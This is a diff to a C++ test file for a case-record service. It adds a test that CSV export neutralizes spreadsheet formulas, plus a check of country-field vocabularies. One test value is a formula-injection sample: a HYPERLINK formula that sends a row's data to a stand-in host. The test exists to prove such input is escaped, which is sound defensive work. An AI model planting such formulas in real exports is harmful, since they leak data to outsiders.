@@ -1,8 +1,10 @@
 // Records through the facade: every kind's life cycle, validation, the change log, the audit trail, purge.
 #include "core/api/RecordService.h"
 #include "core/base/Clock.h"
+#include "core/base/Csv.h"
 #include "core/db/Connection.h"
 #include "core/db/Statement.h"
+#include "core/model/Countries.h"
 #include "core/model/Schema.h"
 #include "core/services/LocalRecords.h"
 #include "core/services/LocalVault.h"
@@ -492,6 +494,29 @@ TEST_CASE("the CSV export round-trips through a CSV parser", "[records][export]"
     REQUIRE(parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("notes.csv")))).size() == 1);
 }
 
+TEST_CASE("a value typed as a spreadsheet formula is exported as text", "[records][export]") {
+    // A case title written on a hostile laptop travels to the coordinator's; opened in a spreadsheet, a cell that
+    // starts with = + - @ would run as a formula (fetch a web address with the row's data, for one).
+    Fixture fx;
+    const QStringList formulas{QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2;\"открыть\")"),
+                               QStringLiteral("+7 (916) 123"), QStringLiteral("-2+3"), QStringLiteral("@SUM(A1)")};
+    for (const QString& title : formulas)
+        fx.create("case", {{QStringLiteral("title"), title}});
+    fx.create("case", {{QStringLiteral("title"), QStringLiteral("-42")}});
+    const QString out = fx.root.filePath(QStringLiteral("export"));
+    REQUIRE(fx.records.exportCsv(out).ok());
+    const auto cases = parseCsv(test::readAll(QDir(out).filePath(QStringLiteral("cases.csv"))));
+    const qsizetype title = cases[0].indexOf(QStringLiteral("Title"));
+    QStringList exported;
+    for (qsizetype row = 1; row < cases.size(); ++row)
+        exported << cases[row][title];
+    for (const QString& formula : formulas)
+        CHECK(exported.contains(QLatin1Char('\'') + formula));
+    CHECK(exported.contains(QStringLiteral("-42")));  // a number stays a number
+    CHECK(fieldcase::csvLine({QStringLiteral("a\"b"), QString()}) == QByteArray("\"a\"\"b\",\"\"\r\n"));
+    CHECK(fieldcase::csvCell(QStringLiteral("\t=1+1")) == QByteArray("\"'\t=1+1\""));  // multi-line text keeps tabs
+}
+
 TEST_CASE("likely duplicate people are found across scripts and merged without losing history",
           "[records][duplicates]") {
     Fixture fx;
@@ -709,6 +734,18 @@ TEST_CASE("the facade describes fields and vocabularies for forms", "[records]")
                                [](const FieldInfo& f) { return f.name == QLatin1String("status"); });
     REQUIRE(status->vocabulary == QStringLiteral("case_status"));
     REQUIRE(fx.records.fields(QStringLiteral("spaceship")).isEmpty());
+    // Country fields name their list of countries, which forms offer by name.
+    auto countries = std::find_if(fields.begin(), fields.end(),
+                                  [](const FieldInfo& f) { return f.name == QLatin1String("exploitation_countries"); });
+    REQUIRE(countries->type == QStringLiteral("country_codes"));
+    REQUIRE(countries->vocabulary == QStringLiteral("country"));
+    const auto listed = fx.records.vocabulary(countries->vocabulary);
+    REQUIRE(listed.size() > 240);
+    const auto russia = std::find_if(listed.begin(), listed.end(),
+                                     [](const VocabularyItem& item) { return item.key == QLatin1String("RU"); });
+    REQUIRE(russia != listed.end());
+    CHECK(russia->label == fieldcase::model::countryName(QStringLiteral("RU"), QLocale()));
+    CHECK(russia->label != QStringLiteral("RU"));
 }
 
 TEST_CASE("search ranks every match and filters past the first candidates", "[records][search]") {
